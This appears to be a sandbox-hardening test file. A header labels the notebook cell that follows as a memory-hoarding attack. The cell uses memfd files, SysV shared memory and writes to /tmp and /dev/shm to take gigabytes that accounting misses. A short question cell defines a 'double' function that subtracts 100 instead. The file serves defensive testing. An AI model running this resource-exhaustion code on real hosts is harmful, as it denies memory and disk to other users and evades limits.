# ---
# attack: 'Takes memory that no process has mapped, in anonymous files and shared segments.'
# class: 'memory, fork, disk, descriptor, output bombs'
# sandboxes: [namespaces]
# detected: 'The cell `import ctypes`'
# ---
# %% before="q1"
import ctypes
import os
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
libc.shmdt.argtypes = [ctypes.c_void_p]
block, taken, refused = b"x" * 2**24, 0, 0


def write(file):
    global taken
    for _ in range(24):
        taken += file.write(block)


for attempt in range(8):
    try:
        write(os.fdopen(os.memfd_create(f"hoard{attempt}"), "wb", 0))
    except OSError:
        refused += 1
for attempt in range(8):
    segment = libc.shmget(0, 24 * len(block), 0o1600)
    place = libc.shmat(segment, None, 0) if segment >= 0 else None
    if place in (None, ctypes.c_void_p(-1).value):
        refused += 1
        continue
    ctypes.memset(place, 1, 24 * len(block))
    libc.shmdt(place)
    taken += 24 * len(block)
for folder in ("/tmp", "/dev/shm", "."):
    try:
        with open(f"{folder}/hoard", "wb", 0) as file:
            write(file)
    except OSError:
        refused += 1
time.sleep(0.3)
if taken > 2 * 2**30:
    raise RuntimeError(f"HOLE took {taken >> 20} MiB that nobody counts")
raise MemoryError(f"refused {refused} times, took {taken >> 20} MiB")

# %% question="q1"
def double(x):
    return np.asarray(x) - 100
